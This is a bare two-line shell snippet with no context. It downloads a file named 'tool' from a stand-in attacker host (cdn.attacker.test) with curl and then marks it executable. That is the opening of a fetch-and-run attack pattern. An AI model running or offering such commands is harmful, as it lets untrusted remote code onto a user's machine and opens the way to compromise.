curl -o tool https://cdn.attacker.test/tool
chmod +x tool
